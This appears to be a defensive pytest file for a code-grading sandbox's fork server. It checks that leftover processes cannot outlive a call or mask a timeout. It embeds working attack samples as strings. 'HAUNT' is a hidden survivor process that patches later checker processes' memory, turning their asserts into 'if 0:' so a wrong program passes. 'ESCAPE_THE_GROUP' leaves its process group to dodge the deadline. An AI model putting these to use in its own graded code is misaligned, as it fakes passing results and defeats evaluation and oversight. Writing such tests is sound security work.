"""Attacks on the fork server (`sandbox/runner/zygote.py`) and the sweep that spares it
(`sandbox/runner/sweep.py`), in real workspaces and through the real CP grader, each beside an honest control:

* a process whose main thread alone has exited (``SYS_exit``, not ``exit_group``) reads ``Z`` in /proc/PID/stat
  while its other threads run on: the sweep kills every pid whatever its state reads, and counts a process
  alive while any of its threads is, so nothing outlives the call (a survivor could otherwise open a later
  test's checker's memory before it turns non-dumpable and rewrite its ``assert``: a wrong program passing);
* the same trick in the command itself, out of its process group: the deadline kills the command by pid as
  well as by group, and a child the server is slow to reap is killed before the reply is awaited again, so the
  candidate's timeout is scored, never ``infra_error``;
* a forked command has the room under its ``RLIMIT_AS`` that a fresh ``python3 -I`` has (the server adds what
  it maps beyond a fresh interpreter, measured once per container);
* honest programs behave as in a fresh interpreter (threads at exit, atexit, finalisers, stdin modes, ...).

Written from outside the change; each of the first three failed on the fork server as first committed. A shared
hash seed across a container's forked commands is a known difference (docs/sandbox.md), not tested here.
"""

from __future__ import annotations

import json

import pytest

from sandbox.config import SandboxConfig
from sandbox.failure import FailureKind
from sandbox.protocol import ExecRequest
from tasks.grader import GraderConfig, grade_pairs
from tasks.submission import Submission
from tasks.task import AssertTest, StdinTest, Task
from tests.sandbox_support import SANDBOX_USER_PIDS, in_workspace

pytestmark = pytest.mark.docker

SANDBOX = SandboxConfig.model_validate({"pool": {"size": 2}, "episode": {"wall_s": 3600.0}})


def request(source: str, fork_server: bool = True, **fields) -> ExecRequest:
    fields = {"memory_limit_bytes": 300 << 20, "cpu_limit_s": 2.0, "timeout_s": 10, **fields}
    return ExecRequest(argv=["python3", "-I", "-c", source], fork_server=fork_server, **fields)


# ---------------------------------------------------------------- a process the sweep does not see

ZOMBIE_LEADER = r"""
import ctypes, os, threading, time
child = os.fork()
if child == 0:
    os.setsid()
    def beat():
        while True:
            with open("/tmp/beat", "a") as handle:
                handle.write("x")
            time.sleep(0.02)
    threading.Thread(target=beat).start()
    ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: the main thread ends, the process reads as a zombie
for _ in range(2000):
    with open("/proc/%d/stat" % child) as handle:
        if handle.read().rsplit(")", 1)[1].split()[0] == "Z":
            break
    time.sleep(0.001)
print("left")
"""
LEFT_BEHIND = (
    "import json, os, time\n"
    + SANDBOX_USER_PIDS
    + r"""
def size():
    return os.path.getsize("/tmp/beat") if os.path.exists("/tmp/beat") else 0
first = size()
time.sleep(0.3)
print(json.dumps({"growing": size() > first, "mine": sandbox_user_pids()}))
"""
)


def test_a_process_whose_main_thread_exited_does_not_outlive_the_call():
    """The root cause: the sweep that spares the server skips what /proc calls a zombie, but a process whose
    leader thread exited alone is alive (its other threads run); kill(-1) (no server) would have killed it."""

    async def go(ws):
        attack = await ws.exec(request(ZOMBIE_LEADER))
        after = await ws.exec(request(LEFT_BEHIND))
        return attack, after

    attack, after = in_workspace(go)
    assert attack.failure == FailureKind.OK and attack.stdout_text == "left\n", attack
    state = json.loads(after.stdout_text)
    assert state == {"growing": False, "mine": []}, state


# ---------------------------------------------------------------- reward faking through the checker

PROMPT = "def solve(x):\n"
LOOP = "for x in {xs}:\n    assert candidate(x) == 2 * x\n"
# Loops never split on the host: every test runs in the checker (tasks/checker.py).
DOUBLE = Task(
    task_id="double-loop",
    source_format="humaneval",
    kind="assert",
    prompt=PROMPT,
    fn_name="solve",
    completion_prefix=PROMPT,
    tests=tuple(AssertTest(source=LOOP.format(xs=xs)) for xs in ("(2,)", "(5, 7)", "(0, 9)", "(11, 3)")),
)
HONEST = "    return 2 * x\n"
WRONG = "    return 4\n"  # right on the first test only
HAUNT = r"""
def _haunt():
    import ctypes, os, signal, threading, time
    if os.path.exists("/tmp/.haunt"):
        time.sleep(0.1)  # a later test: give the survivor time while the checker waits for this process
        return
    open("/tmp/.haunt", "w").close()
    child = os.fork()
    if child:  # wait until the survivor's leader reads as a zombie, so the sweep after this test skips it
        for _ in range(2000):
            with open("/proc/%d/stat" % child, "rb") as handle:
                if handle.read().rsplit(b")", 1)[1].split()[0] == b"Z":
                    return
            time.sleep(0.001)
        return
    os.setsid()
    os.closerange(3, 4096)

    def patch(mem, maps):
        os.lseek(maps, 0, 0)
        text = b""
        while True:
            chunk = os.read(maps, 65536)
            if not chunk:
                break
            text += chunk
        for line in text.splitlines():
            f = line.split()
            if len(f) < 2 or not f[1].startswith(b"rw"):
                continue
            lo, hi = (int(x, 16) for x in f[0].split(b"-"))
            if hi - lo > (256 << 20):
                continue
            try:
                data = os.pread(mem, hi - lo, lo)
            except OSError:
                continue
            for needle, repl in ((b"assert ", b"if 0:  "), (b"assert(", b"if 0: (")):
                i = data.find(needle)
                while i >= 0:
                    os.pwrite(mem, repl, lo + i)
                    i = data.find(needle, i + 1)

    def watch():
        seen = {int(p) for p in os.listdir("/proc") if p.isdigit()}
        checker = None
        while True:
            for p in os.listdir("/proc"):
                if not p.isdigit() or int(p) in seen:
                    continue
                pid = int(p)
                try:
                    os.kill(pid, 0)
                except PermissionError:
                    continue  # a child of the server still root: look again
                except OSError:
                    seen.add(pid)
                    continue
                seen.add(pid)
                mem = None
                end = time.monotonic() + 0.1
                while mem is None and time.monotonic() < end:  # until it is dumpable (or never again)
                    try:
                        mem = os.open("/proc/%d/mem" % pid, os.O_RDWR)
                        maps = os.open("/proc/%d/maps" % pid, os.O_RDONLY)
                    except PermissionError:
                        if mem is not None:
                            os.close(mem)
                            mem = None
                    except OSError:
                        break
                try:
                    cmd = open("/proc/%d/cmdline" % pid, "rb").read()
                    with open("/proc/%d/stat" % pid, "rb") as handle:
                        ppid = int(handle.read().rsplit(b")", 1)[1].split()[1])
                except OSError:
                    cmd, ppid = b"", 0
                if checker is not None and ppid == checker[0]:  # the checker started this test's candidate
                    cpid, cmem, cmaps = checker
                    checker = None
                    try:
                        os.kill(cpid, signal.SIGSTOP)
                        patch(cmem, cmaps)  # the checker waits for the candidate: its asserts become `if 0:`
                    except OSError:
                        pass
                    finally:
                        os.kill(cpid, signal.SIGCONT)
                        os.close(cmem)
                        os.close(cmaps)
                elif mem is not None and checker is None and (b"gym-fork-server" in cmd or b"checker" in cmd):
                    checker, mem = (pid, mem, maps), None  # opened before it made itself non-dumpable
                if mem is not None:
                    os.close(mem)
                    os.close(maps)
            if checker is not None:
                time.sleep(0.0005)

    threading.Thread(target=watch).start()
    ctypes.CDLL(None).syscall(60, 0)  # SYS_exit of the main thread only: the process now reads as a zombie


_haunt()
"""


def test_a_process_left_by_an_earlier_test_cannot_pass_the_later_tests():
    """A wrong program right on test 0 leaves a survivor (above) that opens each later checker's memory before
    the checker drops its dumpability and turns its asserts into ``if 0:``: every later test passes."""
    pairs = [(DOUBLE, Submission(task_id=DOUBLE.task_id, completion=c)) for c in (HONEST, WRONG, WRONG + HAUNT)]
    honest, wrong, haunted = grade_pairs(pairs, GraderConfig(), SANDBOX)
    assert honest.passed, honest
    assert not wrong.passed and [t.verdict.value for t in wrong.tests][0] == "passed", wrong
    assert not haunted.infra_error
    assert not haunted.passed, [(t.verdict.value, t.detail) for t in haunted.tests]
    assert [t.verdict.value for t in haunted.tests][1:] != ["passed"] * 3


# ---------------------------------------------------------------- masking a timeout

ESCAPE_THE_GROUP = r"""
import ctypes, os, threading, time
a, b = map(int, input().split())
print(a + b, flush=True)
os.setpgid(0, os.getpgid(os.getppid()))  # into the server's group: the deadline's killpg finds no group
threading.Thread(target=time.sleep, args=(40,)).start()
ctypes.CDLL(None).syscall(60, 0)  # the main thread ends; the process reads as a zombie and never exits
"""
SUM = Task(
    task_id="sum",
    source_format="nemotron",
    kind="stdin",
    prompt="p",
    tests=(StdinTest(input="1 2\n", output="3\n"),),
)


def test_a_program_that_leaves_its_group_is_its_own_timeout_not_infra_error():
    """A sleeper the runner can neither kill (no group) nor sweep (a "zombie") nor see exit: the server blocks
    in wait4, the runner gives up on it after 10 s, inside the host's backstop (the test's starvation grace
    included), and the candidate's timeout is masked. A fresh command (fork_server=False) is scored: the runner
    waits in its own wait4 until the host's backstop, ``timeout``."""
    config = GraderConfig(
        default_time_s=1.0, min_time_s=1.0, backstop_factor=1.0, backstop_s=0.5, starved_grace_factor=10.0
    )
    honest = "a, b = map(int, input().split())\nprint(a + b)\n"
    pairs = [(SUM, Submission(task_id=SUM.task_id, completion=c)) for c in (honest, ESCAPE_THE_GROUP)]
    ok, attack = grade_pairs(pairs, config, SANDBOX)
    assert ok.passed, ok
    assert not attack.passed
    assert not attack.infra_error, [(t.verdict.value, t.detail) for t in attack.tests]


# ---------------------------------------------------------------- what an honest program can tell apart

HEADROOM = r"""
lo, hi = 0, 1 << 30
while hi - lo > (1 << 14):
    mid = (lo + hi) // 2
    try:
        block = bytearray(mid)
        del block
        lo = mid
    except MemoryError:
        hi = mid
print(lo)
"""


def test_a_forked_command_has_the_address_space_of_a_fresh_one():
    """An allocation that fits a fresh ``python3 -I`` under the test's RLIMIT_AS must fit a forked one."""
    memory = 96 << 20

    async def go(ws):
        fresh = await ws.exec(request(HEADROOM, False, memory_limit_bytes=memory))
        size = int(fresh.stdout_text) - (256 << 10)  # a quarter MiB of slack for the fresh run
        program = "block = bytearray(%d)\nprint('fits')" % size
        again = await ws.exec(request(program, False, memory_limit_bytes=memory))
        forked = await ws.exec(request(program, True, memory_limit_bytes=memory))
        return again, forked

    again, forked = in_workspace(go)
    assert again.failure == FailureKind.OK and again.stdout_text == "fits\n", again
    assert forked.failure == FailureKind.OK and forked.stdout_text == "fits\n", forked.stderr_text[-300:]


FIDELITY = {
    "a thread still running at exit": "import threading, time\n"
    "threading.Thread(target=lambda: (time.sleep(0.1), print('late'))).start()\nprint('main')",
    "__del__ at exit": "class A:\n    def __del__(self):\n        print('del')\na = A()\nprint('body')",
    "an unflushed file on fd 1": "out = open(1, 'w', closefd=False)\nout.write('unflushed\\n')",
    "stdin read three ways": "import sys\na = sys.stdin.readline()\nb = sys.stdin.buffer.read(3)\n"
    "c = sys.stdin.read()\nprint(repr(a), repr(b), repr(c))",
    "input() to EOF": "print(input())\ntry:\n    input(); input(); input()\nexcept EOFError as e:\n    print('eof')",
    "multiprocessing, spawn": "import multiprocessing as mp\nif __name__ == '__main__':\n"
    "    mp.set_start_method('spawn')\n    with mp.Pool(1) as p:\n        print(p.map(abs, [-1, -2]))",
    "os.fork": "import os\npid = os.fork()\nif pid == 0:\n    print('child', flush=True)\n    os._exit(0)\n"
    "os.waitpid(pid, 0)\nprint('parent')",
    "SIGALRM handler": "import signal, time\nsignal.signal(signal.SIGALRM, lambda *a: print('alarm'))\n"
    "signal.setitimer(signal.ITIMER_REAL, 0.05)\ntime.sleep(0.2)\nprint('done')",
    "an excepthook": "import sys\nsys.excepthook = lambda *a: print('hooked', a[0].__name__)\nraise ValueError",
    "stdio state": "import sys\nprint(sys.stdin.seekable(), sys.stdout.line_buffering, sys.stdout.encoding, "
    "sys.stdin.errors, sys.stdout.write_through, sys.flags.isolated)",
}


def test_honest_programs_behave_as_in_a_fresh_interpreter():
    names = list(FIDELITY)

    async def go(ws):
        out = []
        for name in names:
            fields = {"stdin": b"l1\nl2\nrest\n"}
            out.append([await ws.exec(request(FIDELITY[name], forked, **fields)) for forked in (False, True)])
        return out

    for name, (fresh, forked) in zip(names, in_workspace(go)):
        assert fresh.failure in (FailureKind.OK, FailureKind.NONZERO_EXIT), (name, fresh)
        seen = (fresh.exit_code, fresh.signal, fresh.failure, fresh.stdout_text, fresh.stderr_text)
        assert (forked.exit_code, forked.signal, forked.failure, forked.stdout_text, forked.stderr_text) == seen, name
